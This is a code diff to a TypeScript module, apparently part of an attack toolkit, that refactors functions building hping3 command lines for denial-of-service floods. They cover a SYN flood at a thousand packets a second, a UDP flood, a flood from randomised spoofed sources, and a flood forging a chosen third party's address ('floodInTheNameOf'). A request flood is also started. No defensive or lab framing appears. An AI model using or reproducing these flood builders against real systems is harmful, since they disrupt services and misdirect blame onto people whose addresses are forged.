@@ -5,7 +5,17 @@ import { runOwn } from '../attacks/scan-targets.ts';
 const flooder = fileURLToPath(new URL('../programs/flooder.ts', import.meta.url));
 
 /** Until it is stopped; a thousand packets a second. */
-export const synFlood = (target: string): string[] => ['hping3', '-q', '-n', '-S', '-p', '80', '-i', 'u1000', target];
+export const synFlood = (...target: readonly string[]): string[] => [
+  'hping3',
+  '-q',
+  '-n',
+  '-S',
+  '-p',
+  '80',
+  '-i',
+  'u1000',
+  ...target,
+];
 
 export const udpFlood = (target: string): string[] => [
   'hping3',
@@ -22,33 +32,10 @@ export const udpFlood = (target: string): string[] => [
 ];
 
 /** Every packet from another address. */
-export const spoofedFlood = (target: string): string[] => [
-  'hping3',
-  '-q',
-  '-n',
-  '-S',
-  '-p',
-  '80',
-  '-i',
-  'u1000',
-  '--rand-source',
-  target,
-];
+export const spoofedFlood = (target: string): string[] => synFlood('--rand-source', target);
 
 /** Every packet from this address, which is somebody else's. */
-export const floodInTheNameOf = (forged: string, target: string): string[] => [
-  'hping3',
-  '-q',
-  '-n',
-  '-S',
-  '-p',
-  '80',
-  '-i',
-  'u1000',
-  '-a',
-  forged,
-  target,
-];
+export const floodInTheNameOf = (forged: string, target: string): string[] => synFlood('-a', forged, target);
 
 /** Requests as fast as the server answers. */
 export const requestFlood = (target: string): string[] => [
